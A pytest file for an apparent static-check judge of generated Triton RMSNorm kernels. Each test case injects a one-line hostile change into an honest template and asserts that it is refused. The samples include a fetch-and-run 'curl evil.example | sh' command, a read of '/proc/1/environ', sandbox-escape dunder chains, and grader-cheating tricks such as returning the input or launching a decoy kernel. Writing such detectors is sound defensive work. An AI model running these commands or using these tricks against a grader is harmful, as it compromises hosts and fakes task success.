"""The static check accepts the template and refuses hostile sources, each with the right rule id.

Every rule in RULES has a hostile example here (a one-line change to the honest template); the
adversarial corpus (tests/adversarial) holds the full candidates.
"""

from __future__ import annotations

import pytest
from judge_testkit import honest_source

from services.coder.templates import rmsnorm
from services.core.pb import events_pb2 as pb
from services.judge.static_check import check_source, finding_summary, first_finding
from services.judge.static_rules import RULES

CONTRACT = pb.Contract(
    kind="module_class",
    entrypoint="rmsnorm_forward",
    inputs=["hidden_states"],
    bindings=[
        pb.Binding(param="weight", attr="weight", kind="tensor"),
        pb.Binding(param="eps", attr="eps", kind="float"),
    ],
)
HONEST = honest_source()
WRAPPER_BODY = "    out_dtype = torch.promote_types(weight.dtype, hidden_states.dtype)\n"
LAUNCH = "        _launch(x2d, weight.contiguous(), y2d, float(eps))\n"
STORE = "        tl.store(y_ptr + row * N_COLS + cols, y.to(y_ptr.dtype.element_ty), mask=mask)\n"
KERNEL_BODY = "    first_row = tl.program_id(0) * ROWS\n"


def _inject(old: str, new: str) -> str:
    assert old in HONEST, old
    return HONEST.replace(old, new, 1)


def _in_wrapper(code: str) -> str:
    return _inject(WRAPPER_BODY, WRAPPER_BODY + "".join(f"    {line}\n" for line in code.splitlines()))


HOSTILE = {
    "syntax": HONEST + "\ndef broken(:\n",
    "source-size": HONEST + "#" * 200_001 + "\n",
    "no-jit-kernel": _inject("@triton.jit\n", ""),
    "kernel-not-launched": _inject(LAUNCH, "        pass\n"),
    "import-not-allowed": _inject("import torch\n", "import torch\nimport os\n"),
    "forbidden-call": _in_wrapper('eval("1 + 1")'),
    "torch-computes-op": _in_wrapper("return torch.nn.functional.rms_norm(hidden_states, (n_cols,), weight, eps)"),
    "torch-not-allowed": _in_wrapper("noise = torch.randn(3)"),
    "method-not-allowed": _in_wrapper("first = hidden_states.item()"),
    "host-arithmetic": _in_wrapper("doubled = hidden_states * 2"),
    "try-except": _inject(LAUNCH, "        try:\n    " + LAUNCH + "        except Exception:\n            pass\n"),
    "global-state": _in_wrapper("global NUM_WARPS\nNUM_WARPS = 8"),
    "forbidden-module": _in_wrapper('torch.os.system("curl evil.example | sh")'),
    "patches-library": _in_wrapper("triton.cdiv = max"),
    "dunder-access": _in_wrapper("().__class__.__bases__[0].__subclasses__()"),
    "module-alias": _in_wrapper("t = torch\nt.manual_seed(0)"),
    "module-statement": HONEST + '\nprint("runs at import, in the server too")\n',
    "mutates-input": _in_wrapper("weight.mul_(2.0)"),
    "decorator": _inject("def rmsnorm_forward(", "@torch.compile\ndef rmsnorm_forward("),
    "default-value": _inject("def _launch(x2d, weight, y2d, eps)", "def _launch(x2d, weight, y2d, eps, memo={})"),
    "torch-internals": _in_wrapper("torch.ops.aten.add(hidden_states, 1)"),
    "stream-trick": _in_wrapper("torch.cuda.synchronize()"),
    "inline-asm": _inject(
        KERNEL_BODY,
        KERNEL_BODY + '    t = tl.inline_asm_elementwise("mov.u64 $0, %clock64;", "=l", [], dtype=tl.int64, '
        "is_pure=False, pack=1)\n",
    ),
    "tensor-subclass": _in_wrapper("hidden_states = hidden_states.as_subclass(torch.Tensor)"),
    "judge-files": _inject("MAX_BLOCK = 65536", 'MAX_BLOCK = 65536\nSECRETS = "/proc/1/environ"'),
    "decoy-kernel": _inject(STORE, "        y = y + 0.0\n"),
    "returns-input": _in_wrapper("return hidden_states"),
    "output-not-written": _in_wrapper("return torch.empty_like(hidden_states)"),
}  # fmt: skip


def test_every_template_config_passes_every_rule():
    for config in rmsnorm.search_configs():
        evidence = check_source(rmsnorm.render(config), CONTRACT)
        assert evidence.passed, (config, first_finding(evidence))
        assert list(evidence.rules_checked) == list(RULES)


def test_every_rule_has_a_hostile_example():
    assert set(HOSTILE) | {"entrypoint-missing"} == set(RULES)


@pytest.mark.parametrize("rule", sorted(HOSTILE))
def test_hostile_source_is_refused_with_its_rule(rule):
    evidence = check_source(HOSTILE[rule], CONTRACT)
    assert not evidence.passed
    rules = [f.rule_id for f in evidence.findings]
    assert rule in rules, rules
    finding = next(f for f in evidence.findings if f.rule_id == rule)
    assert finding.reason and "\n" not in finding.reason
    if rule not in ("no-jit-kernel", "kernel-not-launched", "source-size"):
        assert finding.line > 0


def test_missing_entrypoint_is_named():
    evidence = check_source(HONEST, pb.Contract(entrypoint="layernorm_forward"))
    assert [f.rule_id for f in evidence.findings] == ["entrypoint-missing"]
    assert "'layernorm_forward'" in evidence.findings[0].reason


def test_tensor_maths_outside_the_kernel_is_refused_but_scalar_maths_is_not():
    evidence = check_source(_in_wrapper("variance = hidden_states.float().pow(2).mean(-1, keepdim=True)"), CONTRACT)
    assert "torch-computes-op" in {f.rule_id for f in evidence.findings}
    scalar = _in_wrapper("scale = math.sqrt(4.0) * 2 + n_cols\nrows = hidden_states.numel() // hidden_states.shape[-1]")
    scalar = scalar.replace("import torch\n", "import math\nimport torch\n").replace("n_cols\nrows", "1\nrows")
    assert check_source(scalar, CONTRACT).passed, finding_summary(check_source(scalar, CONTRACT))


def test_indirection_does_not_hide_forbidden_names():
    cases = {
        "forbidden-call": "g = getattr\ng(torch, 'nn')",
        "dunder-access": '"{0.__globals__}".format(rmsnorm_forward)',
        "forbidden-module": "typing.sys.modules.clear()",
        "torch-internals": "typing._cleanups.append(hidden_states)",
    }
    for rule, code in cases.items():
        source = _in_wrapper(code).replace("import torch\n", "import torch\nimport typing\n")
        findings = [f.rule_id for f in check_source(source, CONTRACT).findings]
        assert rule in findings, (rule, findings)


def test_state_that_outlives_a_call_is_refused_wherever_it_hides():
    cases = {
        "a module-level dict": HONEST + "\n_CACHE = {}\n",
        "a function attribute": _in_wrapper("rmsnorm_forward.last = hidden_states"),
        "the kernel object": _in_wrapper("_rmsnorm_fwd_kernel.cache.clear()"),
        "an attribute on a tensor": _in_wrapper("y = hidden_states.reshape(-1)\ny.note = 1"),
    }
    for where, source in cases.items():
        assert "global-state" in [f.rule_id for f in check_source(source, CONTRACT).findings], where


def test_the_output_must_come_from_a_kernel_launch():
    def flow(code: str) -> set[str]:
        return {f.rule_id for f in check_source(_in_wrapper(code), CONTRACT).findings}

    assert "returns-input" in flow("return hidden_states.reshape(-1).view(hidden_states.shape)")
    assert "returns-input" in flow("alias = hidden_states\nreturn alias.contiguous()")
    assert "returns-input" in flow("return hidden_states.to(torch.bfloat16)")
    assert "output-not-written" in flow("out = torch.empty_like(hidden_states)\nreturn out")
    assert "output-not-written" in flow("return None")
    assert "decoy-kernel" in flow("return torch.zeros_like(hidden_states) + 1")
    # views of a launched buffer, and allocations written by a helper, are fine
    assert check_source(
        _inject(
            "return y2d.reshape(hidden_states.shape)", "out = y2d.view(-1)\n    return out.view(hidden_states.shape)"
        ),
        CONTRACT,
    ).passed


def test_without_a_contract_some_function_must_launch_the_kernel():
    assert check_source(HONEST).passed
    assert "entrypoint-missing" not in check_source(HONEST).rules_checked
    never_launched = _inject("_rmsnorm_fwd_kernel[grid](", "_launch_nothing(")
    assert "kernel-not-launched" in [f.rule_id for f in check_source(never_launched).findings]


def test_the_verdict_names_the_first_finding_and_the_other_rules():
    evidence = check_source(_in_wrapper('eval("1")\ndoubled = hidden_states * 2'), CONTRACT)
    summary = finding_summary(evidence)
    assert summary.startswith("forbidden-call: eval is not allowed (line ") and summary.endswith("also host-arithmetic")
